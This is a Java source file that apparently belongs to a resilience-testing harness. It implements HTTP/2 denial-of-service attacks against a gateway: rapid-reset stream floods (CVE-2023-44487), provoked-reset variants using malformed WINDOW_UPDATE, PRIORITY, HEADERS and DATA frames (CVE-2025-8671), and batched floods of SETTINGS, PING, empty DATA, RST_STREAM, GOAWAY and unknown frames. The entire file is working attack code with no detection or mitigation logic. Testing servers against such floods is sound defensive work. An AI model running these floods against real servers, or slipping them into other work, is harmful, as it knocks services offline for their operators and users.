package io.beringia.scenarios.attack;

import io.beringia.scenarios.attack.Attack.Siege;
import io.beringia.scenarios.connect.Frame;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Stream;

/** Streams that are taken back, streams that the gateway is made to reset, and frames without number. */
final class FrameAttacks {
    private static final int CANCEL = 0x8;
    private static final int UNKNOWN_TYPE = 0xfa;
    /** Frames in one write. */
    private static final int BATCH = 500;

    private static final int STREAMS_PER_WRITE = 50;
    private static final Duration TICK = Duration.ofMillis(100);
    private static final int STREAM_MAX = Integer.MAX_VALUE - 4 * STREAMS_PER_WRITE;
    private static final byte[] NOTHING = new byte[0];

    private FrameAttacks() {}

    static List<Attack> all() {
        return Stream.of(resets(), provokedResets(), floods())
                .flatMap(List::stream)
                .toList();
    }

    /** CVE-2023-44487. */
    private static List<Attack> resets() {
        return List.of(
                Siege.flood("A1", "rapid reset", who -> streams(who, FrameAttacks::takenBack)),
                Siege.paced("A1", "rapid reset, 8 streams a second", who -> {
                    Line line = who.greet();
                    for (int stream = 1; who.goesOn(); stream += 2) {
                        line.send(joined(line.connect(stream), Frame.resetStream(stream, CANCEL)));
                        who.pause(TICK.plus(TICK.dividedBy(4)));
                    }
                }));
    }

    private static byte[] takenBack(int stream, Line line) {
        return joined(line.connect(stream), Frame.resetStream(stream, CANCEL));
    }

    /** What is sent on one new stream. */
    @FunctionalInterface
    private interface Move {
        byte[] on(int stream, Line line);
    }

    /** The same move on one new stream after the other, as fast as they are taken. */
    private static void streams(Attacker who, Move move) throws IOException, InterruptedException {
        Line line = who.greet();
        who.goesTooFar();
        for (int stream = 1; who.goesOn() && stream < STREAM_MAX; ) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < STREAMS_PER_WRITE; i++, stream += 2) {
                batch.writeBytes(move.on(stream, line));
            }
            line.send(batch.toByteArray());
        }
    }

    /** CVE-2025-8671. */
    private static List<Attack> provokedResets() {
        return List.of(
                provoked("WINDOW_UPDATE of 0", stream -> Frame.windowUpdate(stream, 0)),
                provoked("a window beyond 2^31-1", stream -> Frame.windowUpdate(stream, Integer.MAX_VALUE)),
                provoked("PRIORITY of a wrong length", stream -> new Frame(Frame.PRIORITY, 0, stream, new byte[4])),
                provoked("PRIORITY on itself", stream -> priority(stream, stream)),
                Siege.flood(
                        "A2",
                        "HEADERS on an open tunnel",
                        who -> streams(who, (stream, line) -> joined(line.connect(stream), line.connect(stream)))),
                Siege.flood(
                        "A2",
                        "HEADERS after END_STREAM",
                        who -> streams(who, (stream, line) -> joined(ended(stream, line), line.connect(stream)))),
                Siege.flood(
                        "A2",
                        "DATA after END_STREAM",
                        who -> streams(
                                who,
                                (stream, line) ->
                                        joined(ended(stream, line), new Frame(Frame.DATA, 0, stream, new byte[1])))));
    }

    private static Siege provoked(String name, IntFunction<Frame> fault) {
        return Siege.flood(
                "A2", name, who -> streams(who, (stream, line) -> joined(line.connect(stream), fault.apply(stream))));
    }

    private static Frame ended(int stream, Line line) {
        return new Frame(
                Frame.HEADERS,
                Frame.END_HEADERS | Frame.END_STREAM,
                stream,
                line.connect(stream).payload());
    }

    private static Frame priority(int stream, int parent) {
        return new Frame(
                Frame.PRIORITY,
                0,
                stream,
                ByteBuffer.allocate(5).putInt(parent).put((byte) 1).array());
    }

    /** CVE-2019-9512, 9513, 9515, 9518 and their like. */
    private static List<Attack> floods() {
        return List.of(
                flood("SETTINGS", new Frame(Frame.SETTINGS, 0, 0, NOTHING)),
                flood("SETTINGS acknowledged", new Frame(Frame.SETTINGS, Frame.ACK, 0, NOTHING)),
                flood("PING", new Frame(Frame.PING, 0, 0, Line.ping(1))),
                flood("PING answered", new Frame(Frame.PING, Frame.ACK, 0, Line.ping(1))),
                flood("PRIORITY", priority(1, 0)),
                flood("WINDOW_UPDATE of the connection", Frame.windowUpdate(0, 1)),
                flood("WINDOW_UPDATE of a tunnel", Frame.windowUpdate(1, 1)),
                flood("empty DATA", new Frame(Frame.DATA, 0, 1, NOTHING)),
                flood("DATA that is all padding", new Frame(Frame.DATA, Frame.PADDED, 1, new byte[] {0})),
                flood("empty DATA, and a byte now and then", emptyAndNot()),
                flood("RST_STREAM of a stream that is over", overAgain()),
                flood("frames of an unknown type", new Frame(UNKNOWN_TYPE, 0, 0, NOTHING)),
                flood("GOAWAY", new Frame(Frame.GOAWAY, 0, 0, new byte[8])));
    }

    private static byte[] emptyAndNot() {
        Frame empty = new Frame(Frame.DATA, 0, 1, NOTHING);
        return joined(empty, empty, new Frame(Frame.DATA, 0, 1, new byte[1]));
    }

    private static byte[] overAgain() {
        return joined(Frame.resetStream(1, CANCEL));
    }

    private static Siege flood(String name, Frame frame) {
        return flood(name, frame.bytes());
    }

    /** On a connection that has a tunnel, stream 1. */
    private static Siege flood(String name, byte[] frames) {
        return Siege.flood("A4", name, who -> {
            Line line = who.greet();
            line.send(line.connect(1));
            who.pause(TICK);
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < BATCH; i++) {
                batch.writeBytes(frames);
            }
            who.flood(line, batch.toByteArray());
        });
    }

    static byte[] joined(Frame... frames) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (Frame frame : frames) {
            all.writeBytes(frame.bytes());
        }
        return all.toByteArray();
    }
}
